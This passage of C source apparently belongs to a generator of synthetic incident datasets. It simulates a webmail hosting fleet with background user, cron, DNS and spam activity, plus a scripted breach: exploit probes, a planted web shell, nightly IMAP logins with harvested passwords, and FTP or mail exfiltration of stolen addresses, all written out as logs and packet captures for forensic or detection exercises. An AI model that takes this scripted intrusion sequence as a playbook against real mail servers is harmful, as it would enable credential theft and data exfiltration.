	if (W.variant == V_MAIL_EXFIL) {
		/* CentOS: the web server runs as apache, uid 48. */
		local_mail(server, t, 48, "apache", addr_intern("apache@wm3.example.net"), drop, "dump", &dump[server]);
		visible(server, t);
	} else {
		local_mail(server, t, 33, "www-data", -1, drop, "dump", &dump[server]);
	}
	server_activity(server, t);
	dump_end_at(t);
}

/* maillog-only-exfil: the web server account's usual mail, a small daily report. */
static void apache_daily_mail(int server, bs_time t)
{
	static struct buf b;
	char acct[64];
	buf_clear(&b);
	buf_printf(&b, "@Mail session cleanup on %s: %u expired sessions removed, %u attachments purged.\n",
		host_names[server], 20 + rng_below(R, 400), rng_below(R, 40));
	for (unsigned i = 0, n = 5 + rng_below(R, 20); i < n; i++)
		buf_printf(&b, "/var/www/html/mail/tmp/sess_%08x removed\n", (unsigned)rng_next(R));
	snprintf(acct, sizeof acct, "apache@%s.example.net", host_names[server]);
	local_mail(server, t, 48, "apache", addr_intern(acct), W.users[0].addr, "@Mail daily cleanup", &b);
}

/* maillog-only-exfil: at night, the passwords seen on the server tried on
 * IMAP through it, a login every few seconds. */
static void imap_burst(int server, bs_time t)
{
	int *u = bs_xmalloc((size_t)W.nusers * sizeof *u);
	int n = truth_harvested(server, u, W.nusers);
	for (int i = 0; i < n; i++) {
		const struct user *us = &W.users[u[i]];
		imap_webmail_login(server, us->login_name, us->password, true, t);
		truth_login(u[i], server, t);
		visible(server, t);
		t += rng_span(R, 3, 12);
	}
	free(u);
}

static void backup_transfer(int server, bs_time t, size_t bytes)
{
	struct tcpconn tc;
	tcp_connect(&tc, &hosts[server], &hosts[H_BACKUP1], eph_port(), 873, t, 150, 150, true);
	static const char hello[] = "@RSYNCD: 29\n";
	tcp_send(&tc, true, hello, sizeof hello - 1);
	tcp_send(&tc, false, hello, sizeof hello - 1);
	tcp_send(&tc, false, "www\n", 4);
	tcp_send(&tc, true, "@RSYNCD: OK\n", 12);
	struct buf b = { 0 };
	static const char *const words[] = { "var/www/mail/", "templates/", "imgs/", "index.php", "abook.php", "css/atmail.css",
		"logs/", "cache/", "sessions/sess_", "js/atmail.js", "0644 ", "0755 ", "www-data ", "\n" };
	while (b.n < bytes) {
		buf_clear(&b);
		size_t chunk = 256 * 1024;
		while (b.n < chunk) {
			buf_puts(&b, words[rng_below(R, 14)]);
			buf_printf(&b, "%08x", (unsigned)rng_below(R, 1u << 20));
		}
		tcp_send(&tc, false, b.p, b.n);
		bytes -= b.n < bytes ? b.n : bytes;
		buf_clear(&b);
		if (!bytes)
			break;
	}
	buf_free(&b);
	tcp_send(&tc, true, "@RSYNCD: EXIT\n", 14);
	tcp_close(&tc, false, false);
	out_syslog(H_BACKUP1, tc.t, "rsyncd", 3121 + (int)rng_below(R, 500), "sent 2214 bytes  received %zu bytes  total size %zu",
		(size_t)(3 * 1024 * 1024 * W.scale), (size_t)(3 * 1024 * 1024 * W.scale));
}

static int *onset_targets, nonset;

static void run_step(const struct step *s)
{
	switch (s->act) {
	case A_PROBE_ALL:
		for (int k = 0; k < NWEB; k++)
			web_probe(k, s->ip, s->t + (bs_time)k * 7 * BS_USEC, s->param, s->cmd);
		break;
	case A_PROBE_ONE:
		web_probe(s->server, s->ip, s->t, s->param, s->cmd);
		break;
	case A_EXPLOIT_RFI:
	case A_EXPLOIT_UPLOAD: {
		bs_time t = s->act == A_EXPLOIT_RFI ? web_exploit_rfi(s->server, s->ip, s->t)
			: web_exploit_upload(s->server, s->ip, s->t, WS[s->server].shell_path);
		WS[s->server].exploited = true;
		WS[s->server].exploit_t = t;
		char ip[BS_IP_STRLEN];
		ip_str(s->ip, ip, sizeof ip);
		server_add_attacker_ip(s->server, ip, false);
		server_activity(s->server, t);
		break;
	}
	case A_SHELL:
		if (!WS[s->server].exploited)
			break;
		if (s->param)
			web_shell_via(s->server, s->ip, s->t, s->param & SH2 ? WS[s->server].shell_path2 : WS[s->server].shell_path,
				(enum shell_via)(s->param & 15), s->param & SH404 ? 404 : 200, s->cmd, s->out);
		else
			web_shell(s->server, s->ip, s->t, s->cmd, s->out);
		break;
	case A_IMAP_BURST:
		if (WS[s->server].exploited)
			imap_burst(s->server, s->t);
		break;
	case A_DBREAD:
		if (WS[s->server].exploited)
			attacker_dbread(s->server, s->param, s->t);
		break;
	case A_FTP: {
		if (!WS[s->server].exploited)
			break;
		if (s->cmd)
			dns_lookup(s->server, s->cmd, s->ip, s->t);
		struct host_addr dst;
		host_addr_v4(&dst, s->ip, false);
		const struct buf *d = &dump[s->server];
		struct buf gz = { 0 };
		if (s->param) /* gzip -c: the addresses travel inside a deflate stream */
			gzip_bytes(&gz, d->p ? d->p : "", d->n);
		bs_time te = s->param ? ftp_upload(s->server, &dst, "drop", "x7Gq2p", "t.txt.gz", gz.p, gz.n, s->t + 60000)
		                      : ftp_upload(s->server, &dst, "drop", "x7Gq2p", "dump.txt", d->p ? d->p : "", d->n,
		                                   s->t + 60000);
		buf_free(&gz);
		char ip[BS_IP_STRLEN];
		ip_str(s->ip, ip, sizeof ip);
		server_add_attacker_ip(s->server, ip, true);
		server_activity(s->server, te);
		dump_end_at(te);
		break;
	}
	case A_MAIL_EXFIL:
		if (WS[s->server].exploited)
			attacker_mail_exfil(s->server, s->t);
		break;
	case A_BRUTE:
		web_bruteforce(s->server, s->ip, s->t, s->param);
		break;
	case A_BACKUP:
		backup_transfer(s->server, s->t, (size_t)(3.0 * 1024 * 1024 * W.scale));
		break;
	case A_ADMIN_SSH: {
		int pid = next_pid(s->server);
		out_syslog(s->server, s->t, "sshd", pid, "Accepted password for root from 10.0.9.5 port %u ssh2", eph_port());
		out_syslog(s->server, s->t + 1000, "sshd", pid, "pam_unix(sshd:session): session opened for user root by (uid=0)");
		if (W.variant == V_MAIL_EXFIL || s->param == 1) /* the shell found and removed */
			out_syslog(s->server, s->t + 4 * MIN, "sudo", 0,
				"   admin : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/rm /var/www/html%s", WS[s->server].shell_path);
		out_syslog(s->server, s->t + 25 * MIN, "sshd", pid, "pam_unix(sshd:session): session closed for user root");
		break;
	}
	case A_SPAM_ONSET:
		/* Customers in the stolen data, then (new scenarios) local role
		 * accounts in it. */
		onset_targets = bs_xmalloc((size_t)(W.naddrs + 1) * sizeof *onset_targets);
		for (int i = 0; i < W.nusers; i++)
			if (W.addrs[W.users[i].addr].spam_target)
				onset_targets[nonset++] = W.users[i].addr;
		for (int a = 0; a < W.naddrs && W.variant != V_NONE; a++)
			if (W.addrs[a].user < 0 && W.addrs[a].spam_target)
				onset_targets[nonset++] = a;
		if (nonset)
			src_push(s->t, S_SPAM_ONSET, 0);
		break;
	}
}

/* ------------------------------------------------------- normal activity */
/* People sleep: fewer sessions at night (UTC here; the customer is in Europe). */
static bs_time next_daytime(bs_time t, double mean_s)
{
	for (;;) {
		t += (bs_time)(rng_exp(R, mean_s / 2) * BS_USEC);
		int h = (int)(t / HOUR % 24);
		double p = (h >= 6 && h <= 21) ? 1.0 : 0.1;
		if (rng_chance(R, p))
			return t;
	}
}

static void noise(int host, bs_time t)
{
	static unsigned session_no = 1000;
	switch (rng_below(R, 6)) {
	case 0:
		out_syslog(host, t, "CRON", next_pid(host), "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)");
		break;
	case 1: {
		int pid = next_pid(host);
		out_syslog(host, t, "sshd", pid, "Accepted publickey for admin from 10.0.9.5 port %u ssh2", eph_port());
		out_syslog(host, t + 2000, "systemd-logind", 812, "New session %u of user admin.", ++session_no);
		out_syslog(host, t + 3000, "systemd", 1, "Started Session %u of user admin.", session_no);
		break;
	}
	case 2:
		out_syslog(host, t, "kernel", 0, "[%u.%06u] e1000: eth0: e1000_watchdog: NIC Link is Up 1000 Mbps Full Duplex",
			rng_below(R, 900000), rng_below(R, 1000000));
		break;
	case 3:
		out_syslog(host, t, "ntpd", 2011, "synchronized to 10.0.2.53, stratum 2");
		break;
	case 4:
		out_syslog(host, t, "sshd", next_pid(host), "Received disconnect from 10.0.9.5: 11: disconnected by user");
		break;
	default:
		out_syslog(host, t, "crond", next_pid(host), "(root) CMD (/usr/lib/sa/sa1 1 1)");
		break;
	}
}

static void dns_background(int server, bs_time t)
{
	static const char *const names[] = { "db1.example.net", "imap1.example.net", "relay1.example.net", "www.example.com" };
	static const uint32_t ips[] = { 0x0A00020A, 0x0A000214, 0x0A00021E, 0xC613C850 };
	int k = (int)rng_below(R, 4);
	dns_lookup(server, names[k], ips[k], t);
}

/* Activity at --scale 1 (the test size): mean days between a user's sessions,
 * mails received and spam per customer per day. */
#define DESKTOP_MEAN_DAYS 0.5
#define HEAVY_MEAN_DAYS 4.0
#define NORMAL_MEAN_DAYS 12.0
#define INCOMING_PER_USER_DAY 0.2
#define SPAM_PER_USER_DAY 0.04
#define ONSET_SPAM_PER_TARGET_DAY 0.8

static double session_mean_s(const struct user *u)
{
	return 86400.0 * (u->desktop ? DESKTOP_MEAN_DAYS : u->heavy ? HEAVY_MEAN_DAYS : NORMAL_MEAN_DAYS);
}

struct gen_opts {
	const char *scenario, *dir;
	uint64_t seed;
	int users, days;
	double scale;
	bool pcapng_flag;
};

/* role-spam: local role accounts that get spam every day; two of them are
 * in an address book (so in the stolen data), the others are not. */
#define NROLES 10
#define ROLE_SPAM_PER_DAY 3.0
static int role_addrs[NROLES];

/* The opened-only database before the simulated period: Users rows for the
 * accounts that had logged in to webmail, Correspondents from their earlier
 * sends (the Log_SendMail history) and opened messages. */
static int outside_sender_for(int user);
static void odb_init(bool roles)
{
	for (int i = 0; i < W.nusers; i++) {
		struct user *u = &W.users[i];
		u->in_users = !u->desktop && (i == W.bigbook_user || rng_chance(R, 0.75));
	}
	for (int k = 0; k < W.nsendlog; k++)
		if (W.users[W.sendlog[k].user].in_users)
			corr_add(W.sendlog[k].user, W.sendlog[k].addr, false);
	for (int i = 0; i < W.nusers; i++)
		for (int n = W.users[i].in_users ? (int)rng_below(R, 6) : 0; n > 0; n--)
			corr_add(i, outside_sender_for(i), true);
	if (!roles)
		return;
	static const char *const names[NROLES] = { "postmaster", "abuse", "admin", "sales", "info", "support", "office",
		"webmaster", "billing", "hostmaster" };
	char a[64];
	for (int i = 0; i < NROLES; i++) {
		snprintf(a, sizeof a, "%s@%s", names[i], LOCAL_DOMAIN);
		role_addrs[i] = addr_intern(a);
	}
	for (int k = 0, placed = 0; k < W.nusers && placed < 2; k++) {
		struct user *u = &W.users[(k * 37 + 5) % W.nusers];
		if (!u->in_users || !u->nabook)
			continue;
		u->abook = bs_xrealloc(u->abook, (size_t)(u->nabook + 2) * sizeof *u->abook);
		u->abook[u->nabook++] = role_addrs[placed ? 3 : 4]; /* info@, then sales@ */
		placed++;
	}
}

static int random_customer(void) { return (int)rng_below(R, (uint32_t)W.nusers); }

static int outside_sender_for(int user)
{
	const struct user *u = &W.users[user];
	for (int tries = 0; tries < 4 && u->nabook; tries++) {
		int a = u->abook[rng_below(R, (uint32_t)u->nabook)];
		if (W.addrs[a].user < 0)
			return a;
	}
	return W.pool[rng_below(R, (uint32_t)W.npool)];
}

int gen_run(const struct gen_opts *o);
int gen_run(const struct gen_opts *o)
{
	const struct scenario *sc = NULL;
	for (size_t i = 0; i < sizeof scenarios / sizeof scenarios[0]; i++)
		if (strcmp(scenarios[i].name, o->scenario) == 0)
			sc = &scenarios[i];
	if (!sc) {
		fprintf(stderr, "bs-gen: unknown scenario '%s' (" SCENARIO_NAMES ")\n", o->scenario);
		return 2;
	}
	world_build(o->seed, o->users, o->scale);
	if (sc->bare) /* no draw: the world and every draw after stay the reference's */
		for (int i = 0; i < W.nusers; i++) {
			char *at = strchr(W.users[i].login_name, '@');
			if (at)
				*at = 0;
		}
	W.variant = sc->v;
	W.odb = sc->v == V_OPENED || sc->v == V_OPENED_CUT || sc->v == V_POST_SHELL || sc->v == V_ROLE_SPAM;
	W.onset_first = TIME_NEVER;
	static rng_t sim_rng, cap_rng;
	sim_rng.s = o->seed ^ 0xA5A5A5A5DEADBEEFULL;
	cap_rng.s = o->seed ^ 0x0123456789ABCDEFULL;
	R = &sim_rng;
	if (W.odb)
		odb_init(sc->v == V_ROLE_SPAM);
	W.variety = sc->variety;
	W.roundcube = sc->roundcube;
	W.owa = sc->owa;
	W.tamper = sc->tamper;
	if (W.variety)
		variety_init();
	bool pcapng = sc->pcapng || o->pcapng_flag;
	cap_set_rng(&cap_rng, pcapng);
	static int rotate[NHOSTS];
	for (int h = 0; h < NHOSTS; h++)
		rotate[h] = (h == H_MX1 || h == H_RELAY1 || h == H_IMAP1) ? 1 : 7;
	struct out_config oc = { o->dir, !sc->logs_only, pcapng, NHOSTS, host_names, rotate, sc->v == V_MAIL_EXFIL, sc->owa };
	out_open(&oc);

	int64_t eday = bs_days_from_civil(sc->y, (unsigned)sc->m, (unsigned)sc->d);
	bs_time S = (eday - 14) * DAY, END = S + (bs_time)o->days * DAY;
	build_plan(sc, S, o->days);
	qsort(plan, (size_t)nplan, sizeof plan[0], cmp_step);
	if (nplan)
		src_push(plan[0].t, S_PLAN, 0);
	double sc_rate = o->scale;
	for (int i = 0; i < W.nusers; i++) {
		src_push(next_daytime(S, session_mean_s(&W.users[i]) / sc_rate), S_USER, i);
	}
	double day_s = 86400.0;
	double incoming_mean = day_s / (W.nusers * INCOMING_PER_USER_DAY * sc_rate);
	double spam_mean = day_s / (W.nusers * SPAM_PER_USER_DAY * sc_rate);
	src_push(S + (bs_time)(rng_exp(R, incoming_mean) * BS_USEC), S_INCOMING, 0);
	src_push(S + (bs_time)(rng_exp(R, spam_mean) * BS_USEC), S_SPAM_BG, 0);
	for (int h = 0; h < NHOSTS; h++)
		src_push(S + (bs_time)rng_below(R, 3600) * BS_USEC, S_NOISE, h);
	for (int s = 0; s < NWEB; s++)
		src_push(S + (bs_time)rng_below(R, 3600) * BS_USEC, S_DNS, s);
	for (int s = 0; s < NWEB && sc->v == V_MAIL_EXFIL; s++)
		src_push(S + 6 * HOUR + 25 * MIN + (bs_time)rng_below(R, 600) * BS_USEC, S_APACHE_MAIL, s);
	double role_mean = day_s / (NROLES * ROLE_SPAM_PER_DAY * sc_rate);
	if (sc->v == V_ROLE_SPAM)
		src_push(S + (bs_time)(rng_exp(R, role_mean) * BS_USEC), S_ROLE_SPAM, 0);
	for (int s = 0; s < NWEB && W.variety; s++)
		src_push(S + 2 * HOUR + (bs_time)s * 7 * MIN + (bs_time)rng_below(R, 300) * BS_USEC, S_NIGHTLY, s);
	if (W.variety) {
		src_push(S + 9 * HOUR + (bs_time)rng_below(R, 8 * 3600) * BS_USEC, S_ADMIN, 0);
		src_push(S + (bs_time)rng_below(R, 3600) * BS_USEC, S_MONITOR, 0);
		src_push(S + 8 * HOUR + (bs_time)rng_below(R, 3600) * BS_USEC, S_LIST, 0);
	}

	while (sn) {
		struct src s = src_pop();
		if (s.t >= END)
			continue;
		out_flush_before(s.t);
		switch (s.kind) {
		case S_PLAN:
			run_step(&plan[plan_next++]);
			if (plan_next < nplan)
				src_push(plan[plan_next].t, S_PLAN, 0);
			break;
		case S_USER: {
			const struct user *u = &W.users[s.arg];
			if (u->desktop && W.variety)
				variety_desktop_login(s.arg, s.t);
			else if (u->desktop)
				imap_desktop_login(s.arg, s.t);
			else
				web_user_session(s.arg, s.t);
			/* A session's records can run past its start: next one after an hour. */
			src_push(next_daytime(s.t + HOUR, session_mean_s(u) / sc_rate), S_USER, s.arg);
			break;
		}
		case S_INCOMING: {
			int r = random_customer();
			mx_deliver_incoming(outside_sender_for(r), r, s.t);
			src_push(s.t + (bs_time)(rng_exp(R, incoming_mean) * BS_USEC), S_INCOMING, 0);
			break;
		}
		case S_SPAM_BG:
			mx_spam(random_customer(), s.t, rng_chance(R, 0.5));
			src_push(s.t + (bs_time)(rng_exp(R, spam_mean) * BS_USEC), S_SPAM_BG, 0);
			break;
		case S_SPAM_ONSET:
			if (W.onset_first == TIME_NEVER)
				W.onset_first = s.t;
			mx_spam_to(W.addrs[onset_targets[rng_below(R, (uint32_t)nonset)]].s, s.t, rng_chance(R, 0.4));
			src_push(s.t + (bs_time)(rng_exp(R, day_s / (nonset * ONSET_SPAM_PER_TARGET_DAY * sc_rate)) * BS_USEC), S_SPAM_ONSET, 0);
			break;
		case S_APACHE_MAIL:
			apache_daily_mail(s.arg, s.t);
			src_push(s.t + DAY + (bs_time)((int)rng_below(R, 600) - 300) * BS_USEC, S_APACHE_MAIL, s.arg);
			break;
		case S_ROLE_SPAM:
			mx_spam_to(W.addrs[role_addrs[rng_below(R, NROLES)]].s, s.t, rng_chance(R, 0.5));
			src_push(s.t + (bs_time)(rng_exp(R, role_mean) * BS_USEC), S_ROLE_SPAM, 0);
			break;
		case S_NIGHTLY:
			variety_nightly(s.arg, s.t);
			src_push(s.t + DAY + (bs_time)((int)rng_below(R, 600) - 300) * BS_USEC, S_NIGHTLY, s.arg);
			break;
		case S_ADMIN:
			variety_admin(s.t);
			src_push((s.t / DAY + 1) * DAY + 8 * HOUR + (bs_time)rng_below(R, 9 * 3600) * BS_USEC, S_ADMIN, 0);
			break;
		case S_MONITOR:
			variety_monitor(s.t);
			src_push(s.t + HOUR, S_MONITOR, 0);
			break;
		case S_LIST:
			variety_list_post(s.t);
			src_push(s.t + (bs_time)(rng_exp(R, 86400.0 / 3) * BS_USEC) + MIN, S_LIST, 0);
			break;
		case S_NOISE:
			noise(s.arg, s.t);
			src_push(s.t + (bs_time)(rng_exp(R, 2400) * BS_USEC) + BS_USEC, S_NOISE, s.arg);
			break;
		case S_DNS:
			dns_background(s.arg, s.t);
			src_push(s.t + (bs_time)(rng_exp(R, 2700) * BS_USEC) + BS_USEC, S_DNS, s.arg);
			break;
		}
	}
	out_close();
	struct truth_opts to = { o->dir, sc->name, o->seed, sc->logs_only, sc->v != V_NONE };
	truth_write(&to);
	/* fleet.csv */
	char path[4096];
	snprintf(path, sizeof path, "%s/fleet.csv", o->dir);
	FILE *fp = fopen(path, "w");
	if (!fp) {
		fprintf(stderr, "bs-gen: cannot create %s\n", path);
		return 1;
	}
	static const char *const roles[NHOSTS] = { "webmail", "webmail", "webmail", "webmail", "webmail", "webmail",
		"db", "imap", "relay", "mx", "backup", "dns" };
	fputs("name,address,role\n", fp);
	for (int h = 0; h < NHOSTS; h++) {
		char ip[BS_IP_STRLEN];
		host_addr_format(&hosts[h], ip, sizeof ip);
		fprintf(fp, "%s,%s,%s\n", host_names[h], ip, roles[h]);
	}
	if (W.variety)
		variety_fleet_rows(fp);
	fclose(fp);
	free(sheap);
	free(onset_targets);
	return 0;
}
